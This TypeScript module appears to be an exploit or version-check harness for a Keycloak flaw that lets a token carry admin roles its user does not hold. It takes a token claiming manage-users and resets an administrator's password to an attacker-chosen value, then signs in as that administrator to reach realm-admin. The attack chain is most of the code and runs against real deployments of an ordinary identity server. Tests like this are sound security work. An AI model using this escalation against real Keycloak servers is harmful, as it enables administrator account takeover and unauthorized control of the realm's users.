import { callerWith } from "./caller.ts";
import { proveRealmAdmin } from "./prove-realm-admin.ts";
import { Refusal } from "./refusal.ts";
import { signInWithPassword } from "./request-token.ts";
import type { Scene } from "./scene.ts";

/** The role that a token claims without its user's holding it; realm-admin in a token isn't unfolded. */
export const claimedRole = "manage-users";

/**
 * Goes on to realm-admin with a token that claims manage-users, through an administrator's password.
 * Keycloak 26.7.3 leaves admin roles out of a token whose user doesn't hold them, 26.6.4 doesn't yet.
 *
 * @see [Client scope boundary bypassed when resolving admin roles](https://github.com/keycloak/keycloak/pull/51810)
 */
export async function goOnWithClaimedRole(scene: Scene, token: string): Promise<void> {
  assertClaimed(token);
  const { baseUrl, realm, chief } = scene;
  const value = "chosen-by-the-attacker";
  const caller = callerWith(baseUrl, realm, token);
  await caller.send("PUT", `/users/${chief.id}/reset-password`, { type: "password", value });
  await proveRealmAdmin(scene, await signInWithPassword(scene, chief.name, value));
}

/** Else that the token is refused would show nothing about the server. */
function assertClaimed(token: string): void {
  const [, payload = ""] = token.split(".");
  const { resource_access: access } = JSON.parse(Buffer.from(payload, "base64url").toString());
  const roles: unknown = access?.["realm-management"]?.roles;
  if (!Array.isArray(roles)) throw new Error(`The token claims nothing: ${JSON.stringify(access)}`);
  if (!roles.includes(claimedRole)) {
    throw new Refusal(`Of the claimed roles, the token was left ${JSON.stringify(roles)}.`);
  }
}
